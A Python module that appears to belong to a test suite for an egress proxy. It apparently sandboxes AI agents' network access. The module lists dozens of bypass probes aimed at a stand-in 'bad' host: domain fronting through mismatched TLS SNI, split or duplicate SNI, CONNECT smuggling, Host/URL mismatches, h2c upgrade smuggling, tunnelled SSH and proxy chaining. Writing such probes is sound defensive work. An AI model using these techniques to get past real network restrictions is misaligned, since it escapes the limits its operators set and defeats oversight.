"""Let through for one host, and then for another: TLS names, Host headers, other protocols in a tunnel."""

from __future__ import annotations

import errno

from .attempt import World, attempt
from .words import (
    Refusal,
    accepted,
    ask,
    captured,
    extension,
    hello,
    record,
    request,
    rest,
    say,
    server_name,
    tunnel,
    vector,
)

_GROUP = "fronting"


def _at(world: World, port: int) -> bytes:
    return f"{world.good}:{port}".encode()


def _tls(world: World, *records: bytes) -> None:
    say(tunnel(world, _at(world, 443)), *records)


@attempt(_GROUP, "CONNECT to one host, TLS for another", "domain fronting; gh-aw#62547")
def other_sni(world: World) -> None:
    _tls(world, record(hello(world.mark, server_name(world.bad.encode()))))


@attempt(_GROUP, "TLS that names nobody", "RFC 6066 3")
def no_sni(world: World) -> None:
    _tls(world, record(hello(world.mark)))


@attempt(_GROUP, "TLS that names nobody, with other extensions", "RFC 6066 3")
def no_sni_but_others(world: World) -> None:
    _tls(world, record(hello(world.mark, extension(16, vector(2, b"\x02h2")))))


@attempt(_GROUP, "two names in one extension, the first of them allowed", "RFC 6066 3")
def two_names(world: World) -> None:
    _tls(world, record(hello(world.mark, server_name(world.good.encode(), world.bad.encode()))))


@attempt(_GROUP, "the extension twice", "RFC 8446 4.2")
def two_extensions(world: World) -> None:
    _tls(world, record(hello(world.mark, server_name(world.good.encode()), server_name(world.bad.encode()))))


@attempt(_GROUP, "a name with a NUL in it")
def sni_nul(world: World) -> None:
    _tls(world, record(hello(world.mark, server_name(f"{world.bad}\0.{world.good}".encode()))))


@attempt(_GROUP, "the name in records of one byte each", "peek-and-splice proxies read the first")
def sni_in_pieces(world: World) -> None:
    message = hello(world.mark, server_name(world.bad.encode()))
    start = message.index(world.mark.encode()) + 40
    _tls(world, record(message[:start]) + b"".join(record(message[i : i + 1]) for i in range(start, len(message))))


@attempt(_GROUP, "the name cut in two by a record", "peek-and-splice proxies read the first")
def sni_cut(world: World) -> None:
    message = hello(world.mark, server_name(world.bad.encode()))
    _tls(world, record(message[:-9]), record(message[-9:]))


@attempt(_GROUP, "an encrypted hello whose outer name is another's", "draft-ietf-tls-esni", control=True)
def ech(world: World) -> None:
    outer = extension(0xFE0D, b"\0\0\x01\0\x01\x07" + vector(2, bytes(32)) + vector(2, world.bad.encode() + bytes(64)))
    _tls(world, record(hello(world.mark, server_name(b"public.bad.example"), outer)))


@attempt(_GROUP, "a hello of SSL 2", "RFC 6101 E.1")
def ssl2(world: World) -> None:
    body = b"\x01\x03\x01" + b"\0\x03\0\0\0\x10" + b"\x01\0\x80" + world.mark.encode()[:16].ljust(16, b"-")
    _tls(world, bytes((0x80, len(body))) + body)


@attempt(_GROUP, "an alert first, then the hello", "RFC 8446 6")
def alert_first(world: World) -> None:
    _tls(world, record(b"\x01\0", 21) + record(hello(world.mark, server_name(world.bad.encode()))))


@attempt(_GROUP, "application data first, which looks like TLS")
def data_first(world: World) -> None:
    _tls(world, record(world.mark.encode(), 23))


@attempt(_GROUP, "a hello whose lengths do not fit, for a lenient server")
def sni_longer(world: World) -> None:
    message = bytearray(hello(world.mark, server_name(world.good.encode())))
    name = server_name(world.bad.encode())
    _tls(world, record(bytes(message) + name))


@attempt(_GROUP, "a name that is an address", "RFC 6066 3")
def sni_address(world: World) -> None:
    _tls(world, record(hello(world.mark, server_name(world.address.encode()))))


@attempt(_GROUP, "plain HTTP where TLS belongs")
def http_on_443(world: World) -> None:
    _tls(world, request(world.bad.encode(), world.mark))


@attempt(_GROUP, "SSH where TLS belongs", "RFC 4253 4.2")
def ssh_on_443(world: World) -> None:
    _tls(world, b"SSH-2.0-" + world.mark.encode() + b"\r\n")


@attempt(_GROUP, "SSH where HTTP belongs", "RFC 4253 4.2")
def ssh_on_80(world: World) -> None:
    say(tunnel(world, _at(world, 80)), b"SSH-2.0-" + world.mark.encode() + b"\r\n")


@attempt(_GROUP, "a protocol of its own in a tunnel")
def raw_on_80(world: World) -> None:
    say(tunnel(world, _at(world, 80)), bytes(range(1, 20)) + world.mark.encode())


@attempt(_GROUP, "a protocol of its own in a tunnel to 443")
def raw_on_443(world: World) -> None:
    _tls(world, b"\0\0\0\x08" + world.mark.encode())


@attempt(_GROUP, "the data comes with the CONNECT, before it is answered", "RFC 9110 9.3.6")
def early_data(world: World) -> None:
    target = _at(world, 443)
    head = b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)
    ask(world, head + record(hello(world.mark, server_name(world.bad.encode()))))


@attempt(_GROUP, "a CONNECT whose Host is another", control=True)
def connect_host(world: World) -> None:
    ask(world, b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (f"{world.bad}:80".encode(), _at(world, 80))
        + request(world.bad.encode(), world.mark))  # fmt: skip


@attempt(_GROUP, "a CONNECT with a body")
def connect_body(world: World) -> None:
    text = request(world.bad.encode(), world.mark)
    target = _at(world, 80)
    ask(world, b"CONNECT %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (target, target, len(text)) + text)


@attempt(_GROUP, "a CONNECT in a tunnel", "claude-code#87381; proxies of proxies")
def connect_in_tunnel(world: World) -> None:
    say(tunnel(world, _at(world, 80)), b"CONNECT %s:443 HTTP/1.1\r\nHost: %s\r\n\r\n"
        % (world.bad.encode(), f"{world.mark}.bad.example".encode()))  # fmt: skip


@attempt(_GROUP, "a request for another host in a tunnel")
def other_host_in_tunnel(world: World) -> None:
    say(tunnel(world, _at(world, 80)), request(world.bad.encode(), world.mark))


@attempt(_GROUP, "the same by a whole URL", "RFC 9112 3.2.2")
def url_in_tunnel(world: World) -> None:
    where = world.bad.encode()
    say(tunnel(world, _at(world, 80)), b"GET http://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n"
        % (where, world.mark.encode(), world.good.encode()))  # fmt: skip


@attempt(_GROUP, "the second request in a tunnel is for another host", "peek at the first only")
def second_in_tunnel(world: World) -> None:
    good = request(world.good.encode(), "first")
    say(tunnel(world, _at(world, 80)), good + request(world.bad.encode(), world.mark))


@attempt(_GROUP, "a URL for one host, Host for another", "RFC 9112 3.2.2")
def url_against_host(world: World) -> None:
    ask(world, b"GET http://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n"
        % (world.good.encode(), world.mark.encode(), world.bad.encode()))  # fmt: skip


@attempt(_GROUP, "and the other way round")
def host_against_url(world: World) -> None:
    ask(world, b"GET http://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n"
        % (world.bad.encode(), world.mark.encode(), world.good.encode()))  # fmt: skip


@attempt(_GROUP, "the second request on a kept connection is for another host", "only the first is looked at")
def second_request(world: World) -> None:
    good, bad = world.good.encode(), world.bad.encode()
    ask(world, b"GET http://%s/a HTTP/1.1\r\nHost: %s\r\n\r\nGET http://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n"
        % (good, good, bad, world.mark.encode(), bad))  # fmt: skip


@attempt(_GROUP, "https in a URL that is asked of a proxy", control=False)
def https_url(world: World) -> None:
    bad = world.bad.encode()
    ask(world, b"GET https://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (bad, world.mark.encode(), world.good.encode()))


@attempt(_GROUP, "ftp in a URL that is asked of a proxy", control=False)
def ftp_url(world: World) -> None:
    ask(world, b"GET ftp://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n"
        % (world.bad.encode(), world.mark.encode(), world.good.encode()))  # fmt: skip


@attempt(_GROUP, "an upgrade to another protocol, then free talk", "RFC 9110 7.8")
def upgrade(world: World) -> None:
    good = world.good.encode()
    _switched(world, request(good, "switch", b"Connection: Upgrade\r\nUpgrade: shell\r\n"))


@attempt(_GROUP, "an upgrade to HTTP/2, then free talk", "h2c smuggling")
def upgrade_h2c(world: World) -> None:
    more = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
    _switched(world, request(world.good.encode(), "switch", more))


def _switched(world: World, head: bytes) -> None:
    with tunnel(world, _at(world, 80)) as channel:
        channel.sendall(head)
        answer = b""
        while b"\r\n\r\n" not in answer:
            part = channel.recv(4096)
            if not part:
                break
            answer += part
        channel.sendall(world.mark.encode() * 3)
        accepted(answer + rest(channel))


@attempt(_GROUP, "HTTP/2 without asking", "RFC 9113 3.3")
def http2_preface(world: World) -> None:
    say(tunnel(world, _at(world, 80)), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + world.mark.encode())


@attempt(_GROUP, "a captured connection: TLS for another host", "domain fronting")
def captured_sni(world: World) -> None:
    say(captured(world, world.good, 443), record(hello(world.mark, server_name(world.bad.encode()))))


@attempt(_GROUP, "a captured connection: TLS that names nobody")
def captured_no_sni(world: World) -> None:
    say(captured(world, world.good, 443), record(hello(world.mark)))


@attempt(_GROUP, "a captured connection: Host is another")
def captured_host(world: World) -> None:
    say(captured(world, world.good, 80), request(world.bad.encode(), world.mark))


@attempt(_GROUP, "a captured connection: a whole URL for another")
def captured_url(world: World) -> None:
    say(captured(world, world.good, 80), b"GET http://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n"
        % (world.bad.encode(), world.mark.encode(), world.bad.encode()))  # fmt: skip


@attempt(_GROUP, "a captured connection: the second request is for another")
def captured_second(world: World) -> None:
    say(captured(world, world.good, 80), request(world.good.encode(), "a") + request(world.bad.encode(), world.mark))


@attempt(_GROUP, "a captured connection: CONNECT")
def captured_connect(world: World) -> None:
    say(captured(world, world.good, 80), b"CONNECT %s:443 HTTP/1.1\r\nHost: %s\r\n\r\n"
        % (world.bad.encode(), f"{world.mark}.bad.example".encode()))  # fmt: skip


@attempt(_GROUP, "a captured connection: a protocol of its own on port 443")
def captured_raw(world: World) -> None:
    say(captured(world, world.good, 443), world.mark.encode())


@attempt(_GROUP, "a captured connection to another port of a host that is allowed")
def captured_port(world: World) -> None:
    say(captured(world, world.good, 8443), world.mark.encode())


@attempt(_GROUP, "a captured connection: the address of one host, the name of another that is allowed, too")
def captured_cross(world: World) -> None:
    other = f"s{world.slot}.tunnel.good.example"
    say(captured(world, world.good, 443), record(hello(world.mark, server_name(other.encode()))))


@attempt("chains", "a proxy that is allowed is asked for another host", "proxies of proxies")
def chain_url(world: World) -> None:
    say(tunnel(world, b"s%d.proxy.example:3128" % world.slot), b"GET http://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n"
        % (world.bad.encode(), world.mark.encode(), world.bad.encode()))  # fmt: skip


@attempt("chains", "a proxy that is allowed is asked for a tunnel", "proxies of proxies")
def chain_connect(world: World) -> None:
    say(tunnel(world, b"s%d.proxy.example:3128" % world.slot), b"CONNECT %s:443 HTTP/1.1\r\nHost: %s\r\n\r\n"
        % (world.bad.encode(), f"{world.mark}.bad.example".encode()))  # fmt: skip


@attempt("chains", "the gate is asked to connect to itself", control=False)
def gate_to_itself(world: World) -> None:
    host, port = world.proxy
    with tunnel(world, f"{host}:{port}".encode()) as channel:
        raise_if_refused = b"CONNECT %s:80 HTTP/1.1\r\nHost: %s:80\r\n\r\n" % (world.bad.encode(), world.bad.encode())
        channel.sendall(raise_if_refused)
        if not rest(channel):
            raise Refusal(errno.EACCES, "closed")


@attempt("chains", "forwarding headers that name another host", "RFC 7239", control=False)
def forwarded(world: World) -> None:
    bad = world.bad.encode()
    ask(world, b"GET http://%s/x HTTP/1.1\r\nHost: %s\r\nX-Forwarded-Host: %s\r\nForwarded: host=%s\r\n\r\n"
        % (bad, bad, world.good.encode(), world.good.encode()))  # fmt: skip
